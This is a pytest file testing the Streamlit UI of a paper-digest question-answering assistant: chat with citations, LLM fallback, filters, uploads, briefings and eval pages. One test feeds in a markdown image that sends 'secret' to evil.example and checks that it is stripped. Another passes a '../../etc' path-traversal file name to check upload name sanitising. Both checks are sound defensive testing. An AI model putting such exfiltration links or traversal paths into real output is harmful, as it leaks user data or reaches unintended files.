"""The web UI's pages, run headless with streamlit.testing (no browser), on the real fixture store.

Every page is exercised: a chat turn (extractive and with a fake OpenAI-compatible LLM, follow-ups,
a backend that is down), sidebar filters, clearing, an empty store, the library with an upload
of a malformed digest, the briefing with its download, and the eval runs. The App is handed in
through session state, so the session's loaded model and store are shared with the other tests.
"""
from __future__ import annotations

import argparse
import json
import re
import shutil
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from assistant.app import App
from assistant.cli.commands import build_parser
from assistant.errors import InputError
from assistant.evaluation import run_eval
from assistant.types import info, warning
from assistant.ui_support.render import link_citations, notice_level
from assistant.ui_support.runs import list_runs, open_run
from assistant.ui_support.uploads import Upload, ingest_uploads, safe_name
from tests.factories import FIXTURES, make_app, make_settings
from tests.fake_openai import FakeOpenAI

UI_APP = Path(__file__).resolve().parents[2] / "ui" / "app.py"
APP_KEY = "digestqa.app"  # ui/frame.py: an App placed here is used instead of the shared one
KV_QUESTION = "How much does KVSqueeze reduce KV-cache memory?"


def open_ui(app: App, page: str | None = None) -> AppTest:
    at = AppTest.from_file(str(UI_APP), default_timeout=120)
    at.session_state[APP_KEY] = app
    at.run()
    if page:
        at.switch_page(f"views/{page}.py").run()
    assert not at.exception, at.exception
    return at


def ask(at: AppTest, question: str) -> AppTest:
    at.chat_input[0].set_value(question).run()
    assert not at.exception, at.exception
    return at


def texts(elements) -> list[str]:
    return [e.value for e in elements]


def everything(at: AppTest) -> str:
    return "\n".join(texts(at.markdown) + texts(at.caption) + texts(at.info) + texts(at.warning)
                     + texts(at.error) + texts(at.success))


def llm_app(fixture_app: App, base_url: str, **overrides) -> App:
    settings = make_settings(fixture_app.settings.store, llm_base_url=base_url, llm_model="fake-model",
                             llm_api_key="sk-test", **{"llm_max_retries": 0, "llm_timeout_s": 5.0,
                                                        # exact request counts below: set screening is tested in test_screening.py
                                                        "llm_screen_seconds": 0.0, **overrides})
    app = App(settings)
    app.__dict__["embedder"] = fixture_app.embedder
    app.__dict__["retriever"] = fixture_app.retriever  # same store, already loaded
    return app


# -- what's new ----------------------------------------------------------------------------------
def test_whats_new_groups_the_papers_by_category_collapsed_with_counts(fresh_app):
    fresh_app.ingest([FIXTURES / "2026-01-20.md"])
    at = open_ui(fresh_app, "daily")
    groups = {e.label: e for e in at.expander}
    counts = {}
    for paper in fresh_app.store.papers().values():
        counts[paper.category] = counts.get(paper.category, 0) + 1
    assert set(groups) == {f"{category} ({n})" for category, n in counts.items()}
    assert not any(e.proto.expanded for e in groups.values())
    assert "KVSqueeze" in "\n".join(m.value for m in groups[f"cs.LG ({counts['cs.LG']})"].markdown)


# -- chat -----------------------------------------------------------------------------------------
def test_chat_page_opens_with_store_stats_and_backend(fixture_app):
    at = open_ui(fixture_app)
    metrics = {m.label: m.value for m in at.sidebar.metric}
    assert metrics["Papers"] == str(len(fixture_app.papers())) and metrics["Digests"] == "4"
    assert "Extractive (no LLM)" in texts(at.sidebar.markdown)[2]
    assert at.title[0].value == "Ask the digests" and len(at.chat_input) == 1


def test_chat_turn_links_citations_and_shows_sources_then_follow_up(fixture_app):
    at = ask(open_ui(fixture_app), KV_QUESTION)
    [user, assistant] = at.chat_message
    assert user.markdown[0].value == KV_QUESTION
    answer = assistant.markdown[0].value
    assert "[2601.90001](https://arxiv.org/abs/2601.90001)" in answer and "4.2" in answer
    labels = [e.label for e in at.expander]
    assert labels[0].startswith("★ 1. KVSqueeze") and "cs.LG" in labels[0] and "2026-01-20" in labels[0]
    assert "score" in labels[0] and len(labels) == fixture_app.settings.top_k
    assert any(m.value.startswith("> ") for m in at.expander[0].markdown)  # the passage

    at = ask(at, "And which of those were evaluated on LongBench?")
    assert len(at.chat_message) == 4  # the first turn is still shown
    assert any("follow-up" in i.value for i in at.info)  # read against the previous answer's papers
    assert "2601.90001" in at.chat_message[3].markdown[0].value


def test_chat_with_a_fake_llm_streams_and_condenses_follow_ups(fixture_app):
    first = "KVSqueeze cuts KV-cache memory by 4.2x with per-head low-rank projections [2601.90001]."
    second = "QuantKV quantizes keys and values to 2 bits [2601.90008]."
    with FakeOpenAI().reply({"text": first}, {"text": "Which KV-cache papers use quantization?"},
                            {"text": second}) as fake:
        at = open_ui(llm_app(fixture_app, fake.base_url))
        assert "LLM: fake-model" in texts(at.sidebar.markdown)[2]
        at = ask(at, "Which papers compress the KV cache?")
        assert "[2601.90001](https://arxiv.org/abs/2601.90001)" in at.chat_message[1].markdown[0].value
        at = ask(at, "and which of those use quantization?")
        condense = fake.requests[1]["body"]["messages"][0]["content"]
    assert "Which papers compress the KV cache?" in condense and len(fake.requests) == 3
    reply = at.chat_message[3]
    assert reply.markdown[0].value == ("QuantKV quantizes keys and values to 2 bits "
                                       "\\[[2601.90008](https://arxiv.org/abs/2601.90008)\\].")
    assert any("Read as: Which KV-cache papers use quantization?" in c.value for c in reply.caption)
    assert any("llm:fake-model" in c.value for c in reply.caption)


def test_llm_backend_down_falls_back_to_the_extractive_answer_with_a_notice(fixture_app):
    at = ask(open_ui(llm_app(fixture_app, "http://127.0.0.1:9/v1", llm_timeout_s=2.0)), KV_QUESTION)
    warnings = " ".join(texts(at.warning))
    assert "LLM backend failed" in warnings and "extractive answer" in warnings
    assert "(https://arxiv.org/abs/2601.90001)" in at.chat_message[1].markdown[0].value
    assert not at.error


def test_a_chinese_question_gets_a_linked_answer(fixture_app):
    at = ask(open_ui(fixture_app), "哪篇论文研究带谓词过滤的向量搜索？")
    assert "[2601.90007](https://arxiv.org/abs/2601.90007)" in at.chat_message[1].markdown[0].value
    assert at.expander[0].label.startswith("★ 1. VecFilter")


def test_sidebar_filters_restrict_the_sources(fixture_app):
    at = open_ui(fixture_app)
    at.sidebar.multiselect(key="f_categories").set_value(["cs.DB"]).run()
    at = ask(at, "Which papers compress the KV cache?")
    labels = [e.label for e in at.expander]
    assert labels and all(" · cs.DB · " in label for label in labels)
    assert "categories cs.DB" in at.caption[0].value

    at.sidebar.multiselect(key="f_categories").set_value([]).run()
    at.sidebar.radio(key="f_date_mode").set_value("Pick").run()
    at.sidebar.multiselect(key="f_dates").set_value(["2026-01-21"]).run()
    at.sidebar.slider(key="f_top_k").set_value(2).run()
    at = ask(at, "Which papers study vector search or KV-cache quantization?")
    labels = [e.label for e in at.chat_message[3].expander]
    # A set answer lists every member (and "may be related" papers) whatever k: both on-topic papers of
    # that day, and only papers of that day (KVSqueeze, in both digests, may follow as related).
    assert all("2026-01-21" in label for label in labels) and len(labels) <= 3
    assert any("QuantKV" in label for label in labels) and any("VecFilter" in label for label in labels)


def test_clear_button_starts_over(fixture_app):
    at = ask(open_ui(fixture_app), KV_QUESTION)
    assert len(at.chat_message) == 2
    at.sidebar.button[0].click().run()
    assert not at.exception and len(at.chat_message) == 0
    assert at.sidebar.button[0].disabled


def test_empty_store_says_how_to_ingest_on_every_page(tmp_path, embedder):
    app = make_app(tmp_path / "never-ingested", embedder)
    at = open_ui(app)
    info = " ".join(texts(at.info))
    assert "no papers yet" in info and "Library" in info and "digestqa ingest" in info
    assert not at.chat_input and not at.error
    at.switch_page("views/briefing.py").run()
    assert not at.exception and "no papers yet" in " ".join(texts(at.info))
    at.switch_page("views/library.py").run()
    assert not at.exception and at.file_uploader and at.expander[0].proto.expanded
    assert "upload digest files" in at.info[0].value and not at.dataframe


def test_an_unreachable_store_is_an_error_that_says_what_to_do(tmp_path, embedder):
    app = make_app(tmp_path / "unused", embedder, chroma_host="127.0.0.1", chroma_port=9)
    at = open_ui(app)
    message = at.main.error[0].value
    assert "cannot reach the Chroma server at 127.0.0.1:9" in message
    assert "DIGESTQA_STORE" in message and not at.chat_input
    assert at.sidebar.error[0].value == "Store unavailable"


# -- library ------------------------------------------------------------------------------------
def test_library_lists_and_searches_papers(fixture_app):
    at = open_ui(fixture_app, "library")
    table = at.dataframe[0].value
    assert len(table) == len(fixture_app.papers()) and {"id", "title", "category", "arXiv"} <= set(table.columns)
    digest_of = dict(zip(table["id"], table["digest"], strict=False))  # readable labels, never "–": dates, else names
    assert digest_of["2601.90001"] == "2026-01-20, 2026-01-21" and digest_of["2601.90091"] == "injection"
    at.text_input[0].set_value("kvsqueeze").run()
    assert list(at.dataframe[0].value["id"]) == ["2601.90001"]
    assert any("KVSqueeze" in m.value for m in at.markdown)  # the paper reader
    at.text_input[0].set_value("").run()
    at.sidebar.multiselect(key="f_categories").set_value(["cs.DB"]).run()
    assert set(at.dataframe[0].value["category"]) == {"cs.DB"}


def test_library_upload_of_a_malformed_file_says_what_was_skipped_and_why(fresh_app):
    at = open_ui(fresh_app, "library")
    files = [(name, (FIXTURES / name).read_bytes(), "text/markdown") for name in ("malformed.md", "not_a_digest.md")]
    at.file_uploader[0].set_value(files).run()
    at.button(key="ingest").click().run()
    assert not at.exception, at.exception
    assert at.success[0].value.startswith("6 added, 0 changed, 0 unchanged")
    assert {m.label: m.value for m in at.metric if m.label in ("Added", "Skipped")} == {"Added": "6", "Skipped": "2"}
    skipped = at.dataframe[0].value
    reasons = dict(zip(skipped["file"], skipped["reason"], strict=False))
    assert "arXiv link" in reasons["malformed.md"] and "no digest entries" in reasons["not_a_digest.md"]
    partial = at.dataframe[1].value
    assert "entry has no TL;DR" in set(partial["reason"])
    assert {m.label: m.value for m in at.sidebar.metric}["Papers"] == "6"  # the sidebar saw the ingest
    assert len(at.dataframe[2].value) == 6


# -- briefing -----------------------------------------------------------------------------------
def test_briefing_page_builds_a_cited_briefing_to_download(fixture_app):
    at = open_ui(fixture_app, "briefing")
    at.selectbox[0].set_value("cs.LG")
    at.radio[0].set_value("all")
    at.button[0].click().run()
    assert not at.exception and not at.error, texts(at.error)
    shown = "\n".join(texts(at.markdown))
    assert "(https://arxiv.org/abs/2601.90001)" in shown and "(https://arxiv.org/abs/2601.90008)" in shown
    download = at.get("download_button")[0]
    assert download.proto.label == "Download Markdown"
    assert not any(m.value.startswith("# ") for m in at.markdown)  # its headings sit below the page title
    assert "cs.LG" in at.success[0].value


def test_briefing_for_dates_with_no_papers_says_what_exists(fixture_app):
    at = open_ui(fixture_app, "briefing")
    at.selectbox[0].set_value("eess.SP")
    at.radio[0].set_value("pick").run()
    at.multiselect[0].set_value(["2026-01-20"])
    at.button[0].click().run()
    assert not at.exception
    assert at.warning and not at.get("download_button")


# -- evals --------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def runs_root(fixture_app, tmp_path_factory):
    questions = [
        {"qid": "u1", "question": KV_QUESTION, "kind": "fact", "gold_ids": ["2601.90001"],
         "must_mention": ["4.2"], "answerable": True},
        {"qid": "u2", "question": "Which papers study filtered vector search?", "kind": "find",
         "gold_ids": ["2601.90007"], "must_mention": [], "answerable": True},
        {"qid": "u3", "question": "Which paper improves sourdough fermentation?", "kind": "none", "gold_ids": [],
         "must_mention": [], "answerable": False},
    ]
    dataset = tmp_path_factory.mktemp("ui-evalset") / "tiny.jsonl"
    dataset.write_text("".join(json.dumps(q) + "\n" for q in questions), encoding="utf-8")
    root = tmp_path_factory.mktemp("ui-runs")
    run_eval(fixture_app, dataset, "bm25", out_dir=root / "20260101-000000-bm25", progress=False)
    run_eval(fixture_app, dataset, "product", out_dir=root / "20260102-000000-product", progress=False)
    return root


def test_evals_page_shows_a_run_and_compares_two(fixture_app, runs_root):
    at = open_ui(fixture_app, "evals")
    at.text_input(key="runs_root").set_value(str(runs_root)).run()
    assert not at.exception and not at.error
    assert at.selectbox(key="run_one").value.pipeline == "product"  # the newest first
    overall = at.dataframe[0].value
    assert "hit@5" in set(overall["metric"]) and "value" in overall.columns
    assert at.get("image"), "the run's chart.png is shown"
    assert set(at.dataframe[1].value["kind"]) == {"fact", "find", "none"}

    comparison = next(d.value for d in at.dataframe if "delta" in d.value.columns)
    assert {"metric", "earlier", "now", "delta", "verdict"} <= set(comparison.columns)
    assert any("pipeline differs: bm25 -> product" in w.value for w in at.warning)
    assert any("compare:" in c.value for c in at.code)


def test_evals_page_finds_the_runs_from_any_folder(fixture_app, tmp_path, monkeypatch):
    """Started from an unrelated folder, the page still opens on runs: yours beside the store, or
    the reference runs of this source checkout, never 'no runs' because of the current directory."""
    from assistant.ui_support.runs import SOURCE_ROOT, default_runs_root

    monkeypatch.chdir(tmp_path)
    at = open_ui(fixture_app, "evals")
    root = Path(at.text_input(key="runs_root").value)
    assert root.is_absolute() and tmp_path not in root.parents and root == default_runs_root(fixture_app.settings)
    assert root.parent == SOURCE_ROOT / "evals" and not at.exception and not at.info
    assert at.selectbox(key="run_one").value.path.is_relative_to(root)
    # Runs written beside the store come first; a relative folder typed in resolves against it too.
    beside = Path(fixture_app.settings.store).resolve().parent / "evals" / "runs" / "mine"
    beside.mkdir(parents=True, exist_ok=True)
    (beside / "results.jsonl").write_text("")
    try:
        assert default_runs_root(fixture_app.settings) == beside.parent
    finally:
        shutil.rmtree(beside.parent.parent)


def test_the_per_kind_table_reads_like_report_md(fixture_app, runs_root):
    from assistant.ui_support.runs import kind_rows

    view = open_run(list_runs(runs_root)[0])
    rows = {r["kind"]: r for r in kind_rows(view)}
    assert rows["none"]["hit@5"] == "–" and rows["none"]["refusal acc"] in ("0.000", "1.000")
    values = [v for r in rows.values() for k, v in r.items() if k not in ("kind", "questions")]
    assert all(v == "–" or re.fullmatch(r"\d+\.\d{3}", v) for v in values), values
    assert "None" not in str(rows)


def test_evals_page_without_runs_says_how_to_make_one(fixture_app, tmp_path):
    at = open_ui(fixture_app, "evals")
    at.text_input(key="runs_root").set_value(str(tmp_path / "nothing-here")).run()
    assert not at.exception and "digestqa eval" in at.info[0].value


# -- the helpers behind the pages, and `digestqa ui` --------------------------------------------
def test_citations_become_arxiv_links_and_nothing_else_does():
    text = "Fast [2601.16032, 2601.09527v2]. See ![x](http://evil.example/?q=secret) and [click](http://e.x) for $5."
    linked = link_citations(text)
    assert ("\\[[2601.16032](https://arxiv.org/abs/2601.16032), "
            "[2601.09527](https://arxiv.org/abs/2601.09527)\\]") in linked
    assert "![x](" not in linked and "[click](" not in linked and "\\$5" in linked
    assert link_citations("old style [hep-th/9901001].") == (
        "old style \\[[hep-th/9901001](https://arxiv.org/abs/hep-th/9901001)\\].")
    assert notice_level(warning("the LLM backend failed (timeout)")) == "warning"
    assert notice_level(info("follow-up: looked only at the 2 paper(s) of the previous answer")) == "info"
    assert notice_level("a plain string read back from JSON") == "info"


def test_uploads_keep_their_names_safely_and_refuse_non_digests(fresh_app):
    taken: set[str] = set()
    assert safe_name("../../etc/2026-01-20.md", taken) == "2026-01-20.md"
    assert safe_name("2026-01-20.md", taken) == "2026-01-20-2.md"
    assert safe_name("C:\\x\\digest (1).md", taken) == "digest (1).md"
    with pytest.raises(InputError, match="none of the files is a digest"):
        ingest_uploads(fresh_app, [Upload("paper.pdf", b"%PDF-1.4")])


def test_list_runs_finds_nested_runs_newest_first(tmp_path):
    for name in ("a/20260101-bm25", "20260103-product", "all/product"):
        (tmp_path / name).mkdir(parents=True)
        (tmp_path / name / "results.jsonl").write_text("")
    (tmp_path / "20260103-product" / "report.json").write_text(json.dumps({"config": {
        "timestamp": "2026-01-03T00:00:00", "pipeline": "product", "dataset": {"questions_run": 3}}}))
    runs = list_runs(tmp_path)
    assert [r.name for r in runs][0] == "20260103-product" and runs[0].label.endswith("(product, 3 questions)")
    assert {r.name for r in runs} == {"a/20260101-bm25", "20260103-product", "all/product"}
    assert list_runs(tmp_path / "missing") == []


def test_ui_command_passes_the_settings_on_and_finds_the_app(tmp_path, monkeypatch):
    from assistant.cli import launch_ui as cli_ui

    args = build_parser().parse_args(["ui", "--store", str(tmp_path / "s"), "--port", "8765", "--no-browser"])
    assert (args.port, args.host, args.no_browser) == (8765, "127.0.0.1", True)
    settings = make_settings(tmp_path / "s", llm_model="m", llm_base_url="http://h/v1", preset=None)
    env = cli_ui.ui_environment(settings, {"DIGESTQA_CHROMA_HOST": "stale", "PATH": "/bin"})
    assert env["DIGESTQA_STORE"] == str((tmp_path / "s").resolve()) and env["DIGESTQA_LLM_MODEL"] == "m"
    assert "DIGESTQA_CHROMA_HOST" not in env and env["PATH"] == "/bin"
    # The app's process reads the same settings back (a list setting too: it once went as "('en',)").
    from assistant.config import load_settings

    again = load_settings(env=env)
    assert again.embed_languages == settings.embed_languages and again.llm_model == "m"
    assert cli_ui.find_ui_script() == UI_APP
    command = cli_ui.streamlit_command(UI_APP, "127.0.0.1", 8765)
    assert command[1:4] == ["-m", "streamlit", "run"] and "--server.headless" in command
    with pytest.raises(argparse.ArgumentTypeError):
        cli_ui.port("70000")

    monkeypatch.setattr(cli_ui.Path, "is_file", lambda self: False)
    with pytest.raises(InputError, match="ui/app.py"):
        cli_ui.find_ui_script()
